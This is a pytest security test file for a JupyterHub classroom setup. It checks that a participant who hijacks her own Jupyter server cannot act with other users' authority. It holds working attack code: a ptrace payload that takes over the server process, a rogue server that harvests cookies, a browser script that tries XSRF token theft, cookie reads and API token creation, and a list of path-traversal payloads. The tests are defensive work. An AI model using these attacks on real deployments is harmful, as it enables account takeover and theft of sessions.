"""Whatever a participant serves in place of JupyterLab, it meets nobody's authority but her own: attacks in a real browser."""

import base64
import json
import os
import platform
import re
import shutil
import socket
import time

import pytest
import requests
from conftest import ADMIN, PASSWORD, docker
from playwright.sync_api import expect, sync_playwright

# Replaces the Jupyter server, in its process, by one that serves the page at every path: attaches to it and has it call execve.
TAKE = r"""
import ctypes, glob, os, re, signal, struct, sys
ptrace = ctypes.CDLL(None, use_errno=True).ptrace
ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def call(request, data=None):
    if ptrace(request, pid, None, data) < 0: sys.exit("ptrace: " + os.strerror(ctypes.get_errno()))
commands = {int(f.split("/")[2]): open(f).read() for f in glob.glob("/proc/[0-9]*/cmdline") if int(f.split("/")[2]) not in (1, os.getpid())}
pid = next(pid for pid, command in commands.items() if "/bin/jupyterhub-singleuser" in command)
call(16)
os.waitpid(pid, 0)
registers = (ctypes.c_ulonglong * 27)()
call(12, ctypes.addressof(registers))
start, end = (int(part, 16) for part in re.search(r"^(\w+)-(\w+) .*\[vdso\]", open(f"/proc/{pid}/maps").read(), re.M).groups())
memory = open(f"/proc/{pid}/mem", "r+b", 0)
memory.seek(start)
syscall = start + memory.read(end - start).index(b"\x0f\x05")
at = registers[19] - 65536 & ~15
memory.seek(at)
words = [b"/usr/bin/python3", b"-c", sys.argv[1].encode(), sys.argv[2].encode()]
table, strings = at + 64, b"".join(word + b"\0" for word in words)
place, pointers = at, []
for word in words:
    pointers.append(place + 128)
    place += len(word) + 1
memory.seek(table)
memory.write(struct.pack("6Q", *pointers, 0, 0))
memory.seek(at + 128)
memory.write(strings)
registers[10], registers[15], registers[16] = 59, 2**64 - 1, syscall
registers[14], registers[13], registers[12] = pointers[0], table, table + 40
call(13, ctypes.addressof(registers))
call(17)
print("taken", flush=True)
"""

SERVER = r"""
import base64, http.server, sys
page = base64.b64decode(sys.argv[1])
seen = []
class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.split("?")[0].split("/", 3)[-1]
        seen.append(str(self.headers.get("Cookie")))
        self.send_response(200)
        if path == "accel": self.send_header("X-Accel-Redirect", "/check")
        worker = path == "worker.js"
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        if not worker: self.send_header("Clear-Site-Data", '"storage"')
        self.send_header("Set-Cookie", "tossed=1; Path=/hub/")
        self.end_headers()
        self.wfile.write("\n".join(seen).encode() if path == "seen" else b"onfetch = 1" if worker else page)
    do_POST = do_GET
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8888), Answer).serve_forever()
"""

# What she does in the browser that opens her page: everything that a page can try against the hub.
PAGE = """<!doctype html><title>taken</title><script>
async function attempt(work) { try { return await work() } catch (error) { return String(error) } }
async function attack() {
  const found = {}
  for (const origin of ORIGINS) {
    const hub = origin + "/hub/"
    found["home " + origin] = await attempt(async () => (await (await fetch(hub + "home", {credentials: "include"})).text()).includes("teacher"))
    found["xsrf " + origin] = await attempt(async () => /xsrf_token: "([^"]+)"/.exec(await (await fetch(hub + "home", {credentials: "include"})).text())[1].length > 20)
    const token = await attempt(async () => /xsrf_token: "([^"]+)"/.exec(await (await fetch(hub + "home", {credentials: "include"})).text())[1])
    for (const name of ["teacher", "mallory", "victim"]) {
      found["token " + name + " " + origin] = await attempt(async () => (await fetch(hub + "api/users/" + name + "/tokens",
        {method: "POST", credentials: "include", headers: {"X-XSRFToken": token, "Content-Type": "application/json"}, body: "{}"})).status)
    }
    const old = location.href
    found["cookie " + origin] = await attempt(async () => { history.pushState(0, "", "/hub/home"); const c = document.cookie; history.pushState(0, "", old); return c })
    const stolen = /_xsrf=([^;]+)/.exec(found["cookie " + origin])
    found["blind " + origin] = await attempt(async () => (await fetch(hub + "api/users/teacher/tokens?_xsrf=" + (stolen ? stolen[1] : ""),
      {method: "POST", mode: "no-cors", credentials: "include", body: "{}"})).type)
    found["class " + origin] = await attempt(async () => (await (await fetch(origin + "/services/class/", {credentials: "include"})).text()).includes("connected"))
    found["frame " + origin] = await attempt(() => new Promise(done => {
      const frame = document.createElement("iframe")
      frame.onload = () => { try { done(frame.contentDocument.body.innerText.length > 0 && /teacher|Stop/.test(frame.contentDocument.body.innerText)) } catch (error) { done(String(error)) } }
      frame.src = hub + "admin"; document.documentElement.append(frame); setTimeout(() => done("timeout"), 4000) }))
    found["neighbour " + origin] = await attempt(() => new Promise(done => {
      const frame = document.createElement("iframe")
      frame.onload = () => { try { done(/jupyter-config-data/.test(frame.contentDocument.documentElement.innerHTML)) } catch (error) { done(String(error)) } }
      frame.src = origin + "/user/victim/lab"; document.documentElement.append(frame); setTimeout(() => done("timeout"), 6000) }))
  }
  found.worker = await attempt(async () => (await navigator.serviceWorker.register("worker.js", {scope: "/"})).scope)
  found.narrow = await attempt(async () => (await navigator.serviceWorker.register("worker.js")).scope)
  return found
}
</script>"""

FLAGS = "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync"


def serve_in_place_of_jupyter(workshop, name, origins):
    """As a program in a cell does it. Some kernels let no program change another, but for one with more rights."""
    if platform.machine() != "x86_64":
        pytest.skip("the attack is written for x86-64")
    page = base64.b64encode(PAGE.replace("ORIGINS", json.dumps(origins)).encode()).decode()
    for rights in ([], ["--privileged", "--user=0"]):
        said = docker("exec", *rights, workshop.container(name), "python3", "-c", TAKE, SERVER, page, check=False)
        if said == "taken":
            return
    pytest.fail(said)


@pytest.fixture(scope="module")
def chromium():
    names = ("chromium", "chromium-browser", "google-chrome", "chrome")
    found = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
    if not found:
        pytest.skip("there is no Chromium: install it, or say where it is with CHROMIUM=…")
    with sync_playwright() as playwright:
        yield playwright.chromium.launch(executable_path=found, args=FLAGS.split())


def log_in(tab, workshop, name, password):
    tab.goto(f"{workshop.address}/hub/logout")
    tab.goto(f"{workshop.address}/hub/login?next=/hub/home")
    tab.get_by_label("Username").fill(name)
    tab.get_by_label("Password").fill(password)
    tab.get_by_role("button", name="Sign in").click()
    me = tab.get_by_text("That was me")  # the name has been used in another browser
    expect(me.or_(tab.locator("#logout")).first).to_be_visible(timeout=60_000)
    if me.count():
        me.click()
    tab.wait_for_url("**/hub/home")


@pytest.fixture(scope="module")
def mallory(workshop):
    victim = workshop.participant("victim")
    victim.spawn()
    person = workshop.participant("mallory")
    person.spawn()
    person.victim = victim
    origins = [workshop.address, getattr(workshop, "labs", workshop.address)]
    serve_in_place_of_jupyter(workshop, "mallory", list(dict.fromkeys(origins)))
    return person


def authority(found):
    """What a page got in the attack that is worth something."""
    return {what: got for what, got in found.items() if got is True or got in (200, 201) or (what in ("worker", "narrow") and got.startswith("http"))}


@pytest.mark.parametrize(("name", "password"), [("teacher", ADMIN), ("victim", PASSWORD)])
def test_no_other_browser_runs_what_a_participant_serves(workshop, mallory, chromium, name, password):
    tab = chromium.new_context().new_page()
    log_in(tab, workshop, name, password)
    for path in ("/user/mallory/", "/user/mallory/lab", "/hub/user/mallory/", "/user/mallory/accel", "/hub/gate?next=/user/mallory/"):
        for origin in (workshop.address, workshop.labs):
            tab.goto(origin + path)
            assert tab.title() != "taken", (path, authority(tab.evaluate("attack()")))
            assert "taken" not in tab.content()
            assert path.startswith("/hub/user/") or "the server of mallory" in tab.inner_text("body")
    assert requests.get(f"{workshop.labs}/user/mallory/seen", allow_redirects=False).status_code == 403
    tab.context.close()


def test_her_page_has_her_own_authority_alone(workshop, mallory, chromium):
    tab = chromium.new_context().new_page()
    log_in(tab, workshop, "mallory", PASSWORD)
    tab.goto(f"{workshop.address}/user/mallory/lab")
    tab.wait_for_function("document.title == 'taken'")
    assert tab.url.startswith(workshop.labs)
    assert authority(tab.evaluate("attack()")) == {}
    tab.goto(f"{workshop.labs}/user/mallory/seen")
    seen = tab.inner_text("body")
    session = next(cookie["value"] for cookie in tab.context.cookies() if cookie["name"] == "jupyterhub-session-id")
    assert session not in seen and "unroll-gate" not in seen and "hub-login" not in seen
    assert {cookie["path"] for cookie in tab.context.cookies() if cookie["name"] == "tossed"} <= {"/user/mallory/"}
    # In a browser that both use, one after the other, her page may still be open when the teacher logs in.
    tab.goto(f"{workshop.address}/user/mallory/lab")
    tab.wait_for_function("document.title == 'taken'")
    log_in(tab.context.new_page(), workshop, "teacher", ADMIN)
    assert authority(tab.evaluate("attack()")) == {}
    again = tab.context.new_page()
    again.goto(f"{workshop.labs}/user/mallory/lab")
    assert again.title() != "taken"
    tab.context.close()


def raw(address, path, cookies, **headers):
    """A request whose path nobody has made regular."""
    host, port = address.split("//")[1].split(":")
    with socket.create_connection((host, int(port)), 10) as connection:
        lines = [f"GET {path} HTTP/1.1", f"Host: {host}:{port}", f"Cookie: {cookies}", "Accept: text/html", "Connection: close",
                 *(f"{key.replace('_', '-')}: {value}" for key, value in headers.items())]  # fmt: skip
        connection.sendall("\r\n".join([*lines, "", ""]).encode())
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return answer.decode(errors="replace")


@pytest.mark.parametrize("path", [
    "/user/victim/../mallory/lab", "/user/victim/..%2fmallory/lab", "/user//mallory/lab", "/user%2fmallory/lab", "/hub/../user/mallory/lab",
    "/user/mallory%2f..%2fvictim/lab", "//user/mallory/lab", "/user/./mallory/lab", "/USER/mallory/lab", "/user/Mallory/lab",
    "/user/%6dallory/lab", "/user/mallory", "/user/mallory?x", "/user/mallory;/lab", "/check", "/user/victim\\..\\mallory/lab",
])  # fmt: skip
def test_no_path_leads_past_the_gate(workshop, mallory, path):
    victim = mallory.victim
    cookies = "; ".join(f"{c.name}={c.value}" for c in victim.web.cookies)  # all of them, as no browser would
    for address in (workshop.address, workshop.labs):
        assert "<title>taken" not in raw(address, path, cookies, X_Server="victim", X_Original_URI="/user/victim/lab")


def test_a_cookie_is_good_for_its_owner_and_session_alone(workshop, mallory):
    victim = mallory.victim
    assert victim.web.get(f"{victim.home}/api/status").status_code == 200
    gate = next(c.value for c in victim.web.cookies if c.name == "unroll-gate")
    session = next(c.value for c in victim.web.cookies if c.name == "jupyterhub-session-id")
    login = next(c.value for c in victim.web.cookies if c.name == "jupyterhub-hub-login")
    assert "<title>taken" not in raw(workshop.labs, "/user/mallory/lab", f"unroll-gate={gate}; jupyterhub-session-id={session}")
    for cookies in (f"unroll-gate={gate}", f"unroll-gate={gate}; jupyterhub-session-id=other", f"unroll-gate={login}; jupyterhub-session-id={session}"):
        assert " 302 " in raw(workshop.labs, "/user/victim/lab", cookies).split("\r\n")[0]
    assert "/hub/" not in raw(workshop.labs, "/user/victim/lab", f"unroll-gate={gate}; jupyterhub-session-id={session}").split("\r\n")[0]


@pytest.mark.parametrize("headers", [{"Origin": "LABS"}, {"Origin": "null"}, {"Origin": "http://elsewhere.example"},
                                     {"Sec_Fetch_Site": "same-site", "Sec_Fetch_Mode": "no-cors"}])  # fmt: skip
def test_the_hub_answers_no_page_of_another_origin(workshop, mallory, headers):
    headers = {key: value.replace("LABS", workshop.labs) for key, value in headers.items()}
    cookies = "; ".join(f"{c.name}={c.value}" for c in mallory.web.cookies)
    assert " 403 " in raw(workshop.address, "/hub/home", cookies, **headers).split("\r\n")[0]
    assert " 200 " in raw(workshop.address, "/hub/home", cookies, Origin=workshop.address).split("\r\n")[0]


def ask_hub(person, method, path, **arguments):
    """A request of a page of the hub's, in the session of a participant."""
    person.web.get(f"{person.address}/hub/home", timeout=60)
    token = next(c.value for c in person.web.cookies if c.name == "_xsrf" and c.path == "/hub/")
    return person.web.request(method, f"{person.address}/hub/api/{path}", headers={"X-XSRFToken": token, "Content-Type": "application/json"},
                              timeout=60, **arguments)  # fmt: skip


def test_nobody_makes_tokens(workshop, mallory):
    for person in (mallory, workshop.participant("teacher", ADMIN)):
        for name in {person.name, "mallory", "teacher"}:
            reply = ask_hub(person, "POST", f"users/{name}/tokens", data="{}")
            assert reply.status_code in (403, 404), (person.name, name, reply.text)


def test_a_request_cannot_stop_later_starts(workshop):
    person = workshop.participant("brick")
    for body in ('{"image": "x"}', "[1]", '"x"', '{"user_options": {"image": ["x"]}}'):
        ask_hub(person, "POST", "users/brick/server", data=body)
        person.spawn(60)
        assert ask_hub(person, "DELETE", "users/brick/server").status_code in (202, 204)
        end = time.monotonic() + 30
        while ask_hub(person, "GET", "users/brick").json()["servers"]:
            assert time.monotonic() < end
            time.sleep(0.5)
